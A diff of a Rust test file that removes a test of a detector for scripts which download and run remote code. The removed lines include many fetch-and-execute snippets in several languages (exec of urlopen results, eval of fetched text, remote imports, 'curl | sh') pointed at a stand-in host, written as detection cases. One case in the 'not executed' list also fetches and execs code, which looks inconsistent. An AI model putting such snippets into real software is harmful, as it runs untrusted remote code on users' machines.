@@ -1,7 +1,7 @@
 //! What the host can send, and what it cannot.
 
 use super::*;
-use crate::compose::docker_compose::shell::{Language, Use, uses, uses_of_arguments};
+use crate::compose::docker_compose::shell::{Use, uses, uses_of_arguments};
 
 pub(super) fn executes(script: &str) -> bool {
     uses(script, &|name| name == HOST_DATA).get(HOST_DATA) == Some(&Use::Executed)
@@ -340,113 +340,6 @@ fn code_that_stands_in_the_word_of_its_option_is_read() {
         let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
         let found = uses_of_arguments(&words, &|name| name == "E");
         assert_eq!(found.get("E"), Some(&Use::Executed), "{words:?}");
-    }
-}
-
-#[test]
-fn an_answer_that_code_executes() {
-    for (language, script) in [
-        (
-            Language::Python,
-            "import urllib.request\nexec(urllib.request.urlopen('http://x.example.com/a.py').read())",
-        ),
-        (
-            Language::Python,
-            "import requests\nURL = 'http://x.example.com/a'\nr = requests.get(URL)\ncode = r.text\nexec(code)",
-        ),
-        (
-            Language::Python,
-            "import requests, os\nr = requests.get('https://x.example.com/a', verify=False)\nos.system(r.text)",
-        ),
-        (
-            Language::Python,
-            "import httpx\nH = 'x.example.com'\nexec(httpx.get(f'http://{H}/a').text)",
-        ),
-        (
-            Language::Python,
-            "from urllib.request import urlretrieve\nurlretrieve('http://x.example.com/a', 'a.py')",
-        ),
-        (
-            Language::Node,
-            "const r = await fetch('http://x.example.com/a');\nconst t = await r.text();\neval(t)",
-        ),
-        (Language::Node, "import('http://x.example.com/a.js')"),
-        (Language::Node, "import a from 'http://x.example.com/a.js'"),
-        (
-            Language::Node,
-            "const a = 'http://x.example.com/a.js';\nconst b = await import (a)",
-        ),
-        (
-            Language::Node,
-            "https.get('https://x.example.com/a', {rejectUnauthorized: false}, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
-        ),
-        (
-            Language::Perl,
-            "use LWP::Simple; eval get('http://x.example.com/a')",
-        ),
-        (
-            Language::Node,
-            "import {\n  a,\n} from 'http://x.example.com/a.js'",
-        ),
-        (Language::Node, "export * from 'http://x.example.com/a.js'"),
-        (
-            Language::Node,
-            "require('http').get('http://x.example.com', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
-        ),
-        (
-            Language::Python,
-            "import os\nos.system('curl http://x.example.com/i.sh | sh')",
-        ),
-        (Language::Php, "include 'http://x.example.com/a.php';"),
-        (Language::Ruby, "eval URI.open('http://x.example.com/a').read"),
-    ] {
-        let uses = language.uses(script, &|name| name == HOST_DATA);
-        assert!(uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
-    }
-    for (language, script) in [
-        (
-            Language::Python,
-            "import urllib.request\nurllib.request.urlopen('http://localhost:8080/health')",
-        ),
-        (
-            Language::Python,
-            "import requests, os\nrequests.get('http://hc.example.com/ping')\nos.system('nginx -s reload')",
-        ),
-        (
-            Language::Python,
-            "import requests\nexec(requests.get('https://x.example.com/a').text)",
-        ),
-        (
-            Language::Python,
-            "import requests, os\nrequests.post('http://m.example.com', json={})\nexec(open('/app/a.py').read())",
-        ),
-        (
-            Language::Python,
-            "import os\nAPI = os.environ.get('API', 'http://api.example.com')\nos.system('app --url ' + API)",
-        ),
-        (
-            Language::Python,
-            "import re, requests\nr = requests.get('http://x.example.com')\nd = r.json()\nm = re.compile(r'a').match(d['x'])",
-        ),
-        (
-            Language::Node,
-            "import fetch from 'node-fetch';\nconst axios = import('axios').then(a => a.default);\nconst r = await fetch(url, {agent: new https.Agent({rejectUnauthorized: false})});\nres.json(await r.json())",
-        ),
-        (
-            Language::Node,
-            "fetch('http://hc.example.com').then(r => process.exit(r.ok ? 0 : 1))",
-        ),
-        (
-            Language::Python,
-            "import requests\nfrom jinja2 import Template\nr = requests.get('http://x.example.com').json()\nprint(Template('{{ x }}').render(x=r))",
-        ),
-        (
-            Language::Node,
-            "require('http').get('http://hc.example.com', r => process.exit(r.statusCode === 200 ? 0 : 1))",
-        ),
-    ] {
-        let uses = language.uses(script, &|name| name == HOST_DATA);
-        assert!(!uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
     }
 }
 
